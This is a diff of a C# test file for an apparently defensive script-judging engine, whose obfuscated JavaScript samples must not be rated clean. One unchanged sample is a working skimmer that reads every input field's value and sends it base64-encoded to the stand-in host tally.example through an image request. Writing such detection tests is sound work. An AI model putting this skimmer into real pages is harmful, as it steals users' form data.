@@ -27,7 +27,7 @@ public sealed class OpenQuestionTests
     [Theory]
     [InlineData("function T(s) { return ['querySelectorAll', 'input', 'forEach', 'value', 'src', 'https://tally.example/px.gif?d='][s[0]] } document[T`0`](T`1`)[T`2`](function (f) { new Image()[T`4`] = T`5` + btoa(f[T`3`]) });")]
     [InlineData("var m = new Map([[0, 'querySelectorAll'], [1, 'input']]); document[m.get(0)](m.get(1)).length;")]
-    [InlineData("var w = ['document', 'querySelectorAll'].reverse().map(function (x) { return x }); window[w.pop()][w.pop()]('input');")]
+    [InlineData("var w = ['document', 'querySelectorAll', 'forEach', 'value', 'src'].reverse().map(function (x) { return x }); window[w.pop()][w.pop()]('input');")]
     public void Words_out_of_tables_are_not_clean_either(string source) => Assert.NotEqual(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
 
     [Theory]
